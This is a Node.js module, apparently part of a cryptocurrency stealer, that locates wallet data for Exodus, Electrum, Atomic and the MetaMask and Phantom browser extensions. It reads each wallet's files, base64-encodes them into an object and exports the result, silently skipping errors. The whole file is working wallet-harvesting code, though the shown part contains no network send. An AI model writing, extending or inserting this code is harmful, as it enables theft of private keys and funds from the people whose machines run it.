'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function appData() {
  const h = os.homedir();
  if (process.platform === 'win32') return process.env.APPDATA || path.join(h, 'AppData', 'Roaming');
  if (process.platform === 'darwin') return path.join(h, 'Library', 'Application Support');
  return path.join(h, '.config');
}

const TARGETS = [
  { name: 'exodus', rel: ['Exodus', 'exodus.wallet'] },
  { name: 'electrum', rel: ['..', '.electrum', 'wallets'] },
  { name: 'atomic', rel: ['atomic', 'Local Storage', 'leveldb'] },
  { name: 'metamask', rel: ['Google', 'Chrome', 'Default', 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'] },
  { name: 'phantom', rel: ['Google', 'Chrome', 'Default', 'Local Extension Settings', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'] },
];

function readDir(dir, limit = 4 * 1024 * 1024) {
  const files = {};
  let total = 0;
  for (const f of fs.readdirSync(dir)) {
    const p = path.join(dir, f);
    const st = fs.statSync(p);
    if (!st.isFile() || total + st.size > limit) continue;
    files[f] = fs.readFileSync(p).toString('base64');
    total += st.size;
  }
  return files;
}

function locateWallets() {
  const base = appData();
  const out = [];
  for (const t of TARGETS) {
    const dir = path.join(base, ...t.rel);
    try {
      if (fs.existsSync(dir)) out.push({ name: t.name, files: readDir(dir) });
    } catch (_) {}
  }
  return out;
}

module.exports = { locateWallets };
